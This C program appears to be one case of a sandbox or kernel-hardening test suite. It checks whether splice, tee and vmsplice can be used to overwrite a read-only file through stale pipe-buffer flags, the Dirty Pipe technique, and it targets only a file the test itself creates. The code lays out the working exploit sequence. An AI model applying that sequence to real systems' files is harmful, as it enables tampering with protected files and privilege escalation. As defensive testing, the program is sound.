// args: none
// KRN-08: a spliced page that a later pipe write may merge into. The target is a file
// of our own that we hold open for reading only, so a vulnerable kernel harms nobody.
#include "attack.h"

static const char text[] = "this line must stay as it is\n";

int main(void) {
    char path[256], now[128];
    snprintf(path, sizeof path, "%s/krn08.%d", writable_dir(), (int)getpid());
    int w = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0444);
    if (w < 0) {
        BREACH("could not make the target: %s", ename(errno));
        return 0;
    }
    (void)!write(w, text, sizeof text - 1);
    fsync(w);
    close(w);

    int file = open(path, O_RDONLY | O_CLOEXEC);
    int p[2], q[2];
    (void)!pipe2(p, O_NONBLOCK);
    (void)!pipe2(q, O_NONBLOCK);
    // Every slot of the ring is used once, so that stale flags are left behind in it.
    char page[4096];
    memset(page, 'a', sizeof page);
    int room = fcntl(p[1], F_GETPIPE_SZ);
    for (int i = 0; i < room / 4096; i++) (void)!write(p[1], page, sizeof page);
    for (int i = 0; i < room / 4096; i++) (void)!read(p[0], page, sizeof page);

    long off = 0;
    denied("splice(read-only file)", sys6(SYS_splice, file, &off, p[1], 0, 1, 0), EPERM, EINVAL,
           ENOSYS, 0);
    (void)!write(p[1], "OVERWRITTEN", 11);
    denied("tee", sys4(SYS_tee, p[0], q[1], 1, 0), EPERM, EINVAL, ENOSYS, 0);
    struct iovec v = {page, 16};
    denied("vmsplice", sys4(SYS_vmsplice, q[1], &v, 1, 0), EPERM, EINVAL, ENOSYS, 0);

    if (read_file(path, now, sizeof now) != (ssize_t)sizeof text - 1 || strcmp(now, text) != 0)
        breached("the read-only file changed");
    else
        held("file unchanged");
    unlink(path);
    return verdict();
}
